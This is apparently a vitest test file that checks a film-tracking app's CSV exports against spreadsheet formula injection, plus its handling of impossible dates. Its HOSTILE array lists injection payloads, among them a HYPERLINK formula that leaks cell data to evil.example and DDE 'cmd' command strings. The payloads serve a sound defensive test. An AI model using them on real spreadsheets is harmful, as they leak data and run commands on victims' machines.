import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import type { LibraryItem } from '../../src-shared/ipc/contract';
import type { Play } from '../tracking/types';
import { exportFile, type ExportDeps } from './export';
import { readImport } from './read/index';

/** A profile for the exports: films with these titles, each watched once, rated and listed. */
function profile(
  titles: string[],
  watchedAt: (i: number) => number | null,
  addedAt: (i: number) => number | null = () => Date.UTC(2024, 0, 2, 12),
): ExportDeps {
  const items: LibraryItem[] = titles.map((title, i) => ({
    mediaType: 'movie',
    mediaId: 100 + i,
    title,
    posterPath: null,
    releaseDate: '2001-05-06',
    voteAverage: null,
    popularity: null,
    addedAt: addedAt(i),
    rating: 6,
    pending: false,
  }));
  const plays: Play[] = titles.map((_, i) => ({
    uid: `play-${i}`,
    mediaType: 'movie',
    mediaId: 100 + i,
    season: null,
    episode: null,
    watchedAt: watchedAt(i),
    source: 'marquee',
    createdAt: Date.UTC(2024, 0, 2, 12) + i,
  }));
  const deps = {
    tracking: {
      tracking: {
        // One page holds every play.
        history: () => ({ plays, total: plays.length, next: null }),
      },
    },
    library: {
      collection: ({ mediaType }: { mediaType: string }) => ({
        items: mediaType === 'movie' ? items : [],
      }),
      list: () => ({
        list: { id: 'local-1', name: 'Mine', description: '' },
        items,
      }),
    },
    titles: {
      title: (_kind: string, id: number) => ({
        title: titles[id - 100] ?? '',
        original_title: null,
        poster_path: null,
        date: '2001-05-06',
        popularity: null,
        vote_average: null,
      }),
    },
    timeZone: () => 'Europe/London',
    clock: () => Date.UTC(2026, 5, 15, 12),
  };
  return deps as unknown as ExportDeps;
}

/** Titles a spreadsheet would run as formulas if written as they are. */
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?leak="&A1,"Click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '=1+1\nsecond line',
];

const cellsOf = (text: string): string[] =>
  Papa.parse<string[]>(text, { skipEmptyLines: true }).data.flat();

describe('exports are safe to open in a spreadsheet', () => {
  it('puts a quote before every formula-like title and reads the original titles back', async () => {
    const deps = profile([...HOSTILE, 'Alien'], () => Date.UTC(2024, 0, 2, 12));
    for (const kind of ['letterboxd', 'imdbRatings', 'listCsv'] as const) {
      const file = exportFile(deps, kind, 'local-1');
      const cells = cellsOf(file.text);
      // No cell a spreadsheet reads as a formula: each hostile title follows a quote.
      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
      for (const title of HOSTILE) expect(cells.some((c) => c.startsWith(`'${title}`))).toBe(true);
      // Plain text stays plain.
      expect(cells.some((c) => c.startsWith('Alien'))).toBe(true);

      const read = await readImport({ name: file.fileName, bytes: Buffer.from(file.text) });
      expect(read.problems.filter((p) => p.line > 0)).toEqual([]);
      const titles = read.rows.map((r) => r.ref.title ?? '');
      for (const title of HOSTILE) expect(titles, `${kind}: ${title}`).toContain(title);
    }
  });

  it('leaves numbers Marquee writes itself alone, and a quote before plain text is text', async () => {
    const deps = profile(["'Til Death", '-'], () => Date.UTC(2024, 0, 2, 12));
    const file = exportFile(deps, 'letterboxd');
    const rows = Papa.parse<Record<string, string>>(file.text, {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows.map((r) => [r.tmdbID, r.Rating10, r.Year])).toEqual([
      ['100', '6', '2001'],
      ['101', '6', '2001'],
    ]);
    expect(rows.map((r) => r.Title)).toEqual(["'Til Death", "'-"]);
    const read = await readImport({ name: file.fileName, bytes: Buffer.from(file.text) });
    expect(read.rows.map((r) => r.ref.title)).toContain("'Til Death");
    expect(read.rows.map((r) => r.ref.title)).toContain('-');
  });
});

describe('exports meet stored values no file can hold', () => {
  it('writes a play dated past any date or in the future without its date, with a note per row', () => {
    // Stored before dates were checked where they enter.
    const times = [Date.UTC(2024, 0, 2, 12), 9e15, Date.UTC(2100, 0, 1)];
    const deps = profile(['Alien', 'Heat', 'Ran'], (i) => times[i] ?? null);
    const file = exportFile(deps, 'letterboxd');
    const rows = Papa.parse<Record<string, string>>(file.text, {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows.map((r) => [r.Title, r.WatchedDate])).toEqual([
      ['Alien', '2024-01-02'],
      ['Ran', ''],
      ['Heat', ''],
    ]);
    expect(file.notes).toEqual([
      'Ran: the viewing date 2100-01-01 is in the future, so it is written without a date.',
      'Heat: the viewing time 9000000000000000 is not a real date, so it is written without a date.',
    ]);
  });

  it('writes a rating whose stored date is no real date without it, with a note', () => {
    const deps = profile(
      ['Alien', 'Heat'],
      () => null,
      (i) => (i === 0 ? Date.UTC(2024, 0, 2, 12) : 9e15),
    );
    const file = exportFile(deps, 'imdbRatings');
    const rows = Papa.parse<Record<string, string>>(file.text, {
      header: true,
      skipEmptyLines: true,
    }).data;
    expect(rows.map((r) => [r.Title, r['Date Rated']])).toEqual([
      ['Alien', '2024-01-02'],
      ['Heat', ''],
    ]);
    expect(file.notes).toEqual(['Heat: its rating date is not a real date, so it is left out.']);
  });
});
